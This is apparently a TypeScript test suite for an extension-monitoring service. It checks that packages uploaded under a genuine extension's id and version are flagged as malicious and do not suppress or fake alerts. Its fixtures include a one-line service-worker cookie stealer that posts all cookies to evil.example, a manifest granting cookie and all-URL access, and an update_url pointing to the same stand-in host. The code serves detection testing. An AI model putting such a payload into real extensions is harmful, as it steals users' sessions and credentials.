import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { buildZip } from '../../../../engine/fixtures/packages/build-zip.ts';
import { findCurrentAnalysis } from '../../storage/analysis/analysis.ts';
import { listCurrentVerdicts } from '../../storage/analysis/verdict.ts';
import { findVersion } from '../../storage/catalogue/version.ts';
import { listVersionPackages } from '../../storage/catalogue/version-package.ts';
import { makeTestExtension, type TestExtension } from '../../testing/test-extension.ts';
import { startTestStore, type TestStore } from '../../testing/test-store.ts';
import { detailsByType, startTestWatch, type TestWatch } from '../../testing/test-watch.ts';
import { syncExtensions } from '../store/sync-extensions.ts';
import { requestDueAudits } from '../analysis/request-due-audits.ts';
import { importPackage } from '../catalogue/import-package.ts';
import { checkExtensions } from './check-extensions.ts';
import { compareMonitors } from './compare-monitors.ts';

const theft = {
  'worker.js':
    "chrome.cookies.getAll({}, (all) => fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(all) }));",
};
const thief = {
  permissions: ['cookies'],
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'worker.js' },
};

/** What an account's member uploads under the public key of somebody else's extension. */
function planted({ key }: TestExtension, version: string, manifest: object = {}): Uint8Array {
  const publicKey = key.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
  const all = { manifest_version: 3, name: 'Planted', version, key: publicKey, ...manifest };
  return buildZip([
    { name: 'manifest.json', contents: JSON.stringify(all) },
    ...Object.entries(theft).map(([name, contents]) => ({ name, contents })),
  ]);
}

describe('a package planted under the id and version of a genuine one (row 37)', () => {
  let watch: TestWatch;
  let store: TestStore;
  let accountId: string;
  before(async () => {
    store = await startTestStore();
    watch = await startTestWatch(store);
    await watch.startWorkers();
    accountId = await watch.addAccount();
  });
  after(async () => {
    await watch[Symbol.asyncDispose]();
    await store[Symbol.asyncDispose]();
  });

  const upload = async (bytes: Uint8Array): Promise<void> => {
    await importPackage(watch.services, { kind: 'bytes', bytes, name: 'upload' }, { accountId });
  };

  async function check(extensionId: string): Promise<void> {
    const until = new Date(Date.now() + 3_600_000).toISOString();
    const since = new Date().toISOString();
    const extensionIds = [extensionId];
    await checkExtensions(watch.services, {
      store: 'chrome-web-store',
      extensionIds,
      since,
      until,
    });
  }

  async function until<T>(find: () => Promise<T | undefined>, what: string): Promise<T> {
    for (let wait = 0; wait < 1_200; wait += 1) {
      const value = await find();
      if (value !== undefined) return value;
      await sleep(50);
    }
    return assert.fail(`no ${what}`);
  }

  const compared = (id: string) =>
    until(
      async () =>
        (await compareMonitors(watch.services, id)) === 'compared' ? 'compared' : undefined,
      'comparison',
    );

  async function originsOf(id: string, version: string): Promise<string[]> {
    const { db } = watch.database;
    const known = await findVersion(db, id, version);
    assert.ok(known, version);
    return (await listVersionPackages(db, known.id, accountId)).map(({ origin }) => origin);
  }

  const storeHas = (id: string, version: string) =>
    until(async () => {
      const known = await findVersion(watch.database.db, id, version);
      if (!known) return undefined;
      return (await originsOf(id, version))[0] === 'store' ? known : undefined;
    }, 'package of the store');

  it("does not hide the store's package of the same version, and becoming known alarms nobody", async () => {
    const extension = makeTestExtension('Known late');
    await upload(planted(extension, '1.0'));
    const monitorId = await watch.watch(extension.id);
    await compared(extension.id);
    store.publish(extension.id, '1.0', extension.pack('1.0', thief, theft));
    await check(extension.id);
    await storeHas(extension.id, '1.0');
    await compared(extension.id);
    assert.deepEqual(await originsOf(extension.id, '1.0'), ['store', 'unsigned']);
    const [verdict] = await listCurrentVerdicts(watch.database.db, [extension.id]);
    assert.equal(verdict?.verdict?.classification, 'malicious');
    assert.deepEqual(await watch.eventsOf(monitorId), []);
  });

  it("neither alarms before the store's update nor hides it, nor what it gained", async () => {
    const extension = makeTestExtension('Watched well');
    const first = extension.pack('1.0');
    store.publish(extension.id, '1.0', first);
    await watch.take({ kind: 'bytes', bytes: first, name: 'first' });
    const monitorId = await watch.watch(extension.id);
    await check(extension.id);
    await compared(extension.id);
    await upload(planted(extension, '1.1'));
    await upload(planted(extension, '9.9'));
    await check(extension.id);
    await compared(extension.id);
    assert.deepEqual(await watch.eventsOf(monitorId), []);

    store.publish(extension.id, '1.1', extension.pack('1.1', thief, theft));
    await check(extension.id);
    await storeHas(extension.id, '1.1');
    await compared(extension.id);
    const details = detailsByType(await watch.eventsOf(monitorId));
    assert.equal(details['version_update']?.['to_version'], '1.1');
    assert.ok(details['security_alert']);
    assert.ok(details['permission_change']);
  });

  it('what was watched while it was the only one is forgotten when a signed package shows the truth', async () => {
    const extension = makeTestExtension('Made up');
    await upload(planted(extension, '9.9', { permissions: ['cookies', 'history'] }));
    const monitorId = await watch.watch(extension.id);
    await compared(extension.id);
    await upload(extension.pack('1.0', { permissions: ['tabs'] }));
    await compared(extension.id);
    assert.deepEqual(await watch.eventsOf(monitorId), []);
    await upload(extension.pack('1.1', { permissions: ['tabs', 'history'] }));
    await compared(extension.id);
    const details = detailsByType(await watch.eventsOf(monitorId));
    assert.deepEqual(Object.keys(details).sort(), ['permission_change', 'version_update']);
    assert.equal(details['version_update']?.['from_version'], '1.0');
  });

  it('is compared with nothing when a signed update follows: neither its permissions nor its findings', async () => {
    const extension = makeTestExtension('Compared with nothing');
    await upload(planted(extension, '1.0', { permissions: ['history'] }));
    const monitorId = await watch.watch(extension.id);
    await compared(extension.id);
    await upload(extension.pack('1.1', thief, theft));
    await compared(extension.id);
    const details = detailsByType(await watch.eventsOf(monitorId));
    assert.deepEqual(Object.keys(details), ['version_update']);
    assert.equal(details['version_update']?.['diff'], undefined);
  });

  it('does not choose the server that is asked for updates', async () => {
    const extension = makeTestExtension('Led astray');
    await upload(planted(extension, '1.0', { update_url: 'https://evil.example/updates.xml' }));
    await syncExtensions(watch.services, [extension.id], { onOutcome: () => undefined });
    await watch.watch(extension.id);
    const sourceOf = () =>
      watch.database.db
        .selectFrom('extension_source')
        .select(['store', 'update_url'])
        .where('extension_id', '=', extension.id)
        .executeTakeFirst();
    assert.deepEqual(await sourceOf(), { store: 'chrome-web-store', update_url: null });
    await upload(extension.pack('1.0', { update_url: store.updateUrl }));
    await compared(extension.id);
    assert.deepEqual(await sourceOf(), { store: 'update-manifest', update_url: store.updateUrl });
  });

  it('is named in the report of the package that the version is judged by, and is judged itself', async () => {
    const extension = makeTestExtension('Told of');
    const { db } = watch.database;
    const bytes = extension.pack('1.0');
    await watch.take({ kind: 'bytes', bytes, name: 'genuine' });
    await watch.watch(extension.id);
    await compared(extension.id);
    await upload(planted(extension, '1.0', thief));
    const version = await findVersion(db, extension.id, '1.0');
    assert.ok(version);
    const report = await until(async () => {
      // As the service does every minute: an audit that is under way comes first.
      await requestDueAudits(watch.services);
      const current = await findCurrentAnalysis(db, version.id);
      const ids = current?.report?.findings.map(({ id }) => id) ?? [];
      return ids.includes('version-claimed-by-other-package') ? current?.report : undefined;
    }, 'report that names it');
    assert.equal(report.classification, 'clean');
    const packages = await until(async () => {
      const all = await listVersionPackages(db, version.id, accountId);
      return all.every(({ verdict }) => verdict) ? all : undefined;
    }, 'verdict on what was planted');
    assert.deepEqual(
      packages.map(({ origin, verdict, isOwn }) => [origin, verdict?.classification, isOwn]),
      [
        ['publisher_signed', 'clean', false],
        ['unsigned', 'malicious', true],
      ],
    );
  });
});
